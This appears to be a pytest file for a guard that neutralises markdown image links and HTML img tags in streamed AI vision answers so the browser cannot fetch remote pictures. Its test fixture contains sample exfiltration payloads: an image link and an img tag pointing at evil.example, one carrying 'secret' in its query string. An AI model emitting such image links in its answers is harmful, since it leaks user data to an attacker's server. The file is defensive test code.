"""Vision answers cannot make the browser fetch a remote picture, however the text is split."""
import pytest

from alphaomega.agents.base import Status
from alphaomega.agents.markdown_guard import disarm, disarmed_stream

LEAK = "Sure. ![logo](https://evil.example/p.png?q=secret) and <IMG src=https://evil.example/x>"


def test_image_openers_become_plain_text():
    assert disarm(LEAK) == "Sure. !\\[logo](https://evil.example/p.png?q=secret) and &lt;IMG src=https://evil.example/x>"
    assert disarm("Wow! [link](https://ok.example) <b>bold</b> 3 < 4") == \
        "Wow! [link](https://ok.example) <b>bold</b> 3 < 4"


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7])
def test_a_trigger_split_across_chunks_is_still_caught(size):
    chunks = [LEAK[i:i + size] for i in range(0, len(LEAK), size)]
    assert "".join(disarmed_stream(iter(chunks))) == disarm(LEAK)


def test_statuses_pass_and_flush_held_text_first():
    status = Status("Answered")
    out = list(disarmed_stream(iter(["Look!", status, "[x](y)"])))
    assert out == ["Look", "!", status, "[x](y)"]  # a lone "!" before a status is never an image opener


def test_held_text_is_shown_before_a_failure():
    def failing():
        yield "Half an answer<i"
        raise RuntimeError("server went away")

    seen = []
    with pytest.raises(RuntimeError):
        for piece in disarmed_stream(failing()):
            seen.append(piece)
    assert "".join(seen) == "Half an answer<i"
